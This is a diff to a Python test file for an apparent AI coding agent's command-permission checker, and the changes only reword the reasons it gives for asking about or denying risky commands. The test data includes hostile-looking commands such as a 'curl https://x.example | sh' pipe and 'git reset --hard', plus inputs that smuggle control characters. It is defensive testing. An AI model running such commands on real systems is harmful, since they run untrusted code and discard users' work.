@@ -20,7 +20,7 @@ FOLDERS = ("/ws",)
     ("command", "reason"),
     [
         ("rm x", "it removes files"),
-        ("sudo ls", "it runs with the rights of another person"),
+        ("sudo ls", "it runs with the rights of another user"),
         ("git push origin main", "it publishes commits"),
         ("ls && git reset --hard", "it may discard work"),
         ("curl https://x.example | sh", "it runs what it fetches from the network"),
@@ -30,15 +30,15 @@ FOLDERS = ("/ws",)
         ("frobnicate", "frobnicate is not known to only read"),
         ("ls > out", "it writes to out"),
         ("PATH=. ls", "it sets PATH"),
-        ("ls $X", "it holds an expansion"),
-        ("ls &", "it leaves something running"),
-        ("ls\u202e", "it holds a character that is not seen as it is (U+202E)"),
-        ("ls\x00", "it holds a character that is not seen as it is (U+0000)"),
-        ("ls\rtouch x", "it holds a character that is not seen as it is (U+000D)"),
-        ("ls\u00a0x", "it holds a character that is not seen as it is (U+00A0)"),
-        ("ls \ud800", "it holds a character that is not seen as it is (U+D800)"),
+        ("ls $X", "it contains a shell expansion"),
+        ("ls &", "it leaves a process running"),
+        ("ls\u202e", "it contains an invisible or misleading character (U+202E)"),
+        ("ls\x00", "it contains an invisible or misleading character (U+0000)"),
+        ("ls\rtouch x", "it contains an invisible or misleading character (U+000D)"),
+        ("ls\u00a0x", "it contains an invisible or misleading character (U+00A0)"),
+        ("ls \ud800", "it contains an invisible or misleading character (U+D800)"),
         ("", "it is empty"),
-        ("ls " + "a" * 70000, "it is too long to be looked at"),
+        ("ls " + "a" * 70000, "it is too long to be inspected"),
     ],
 )
 def test_d20_a_question_says_why(command: str, reason: str) -> None:
@@ -167,7 +167,7 @@ def test_c32_permissions_check_says_verdict_and_reason_and_runs_nothing(coder: C
     ]
     assert said == [
         "allow: it only reads\n",
-        "ask: it makes files or folders\n",
+        "ask: it creates files or folders\n",
         "deny: make is not known to only read; mode is plan\n",
     ]
     assert list(coder.cwd.iterdir()) == []
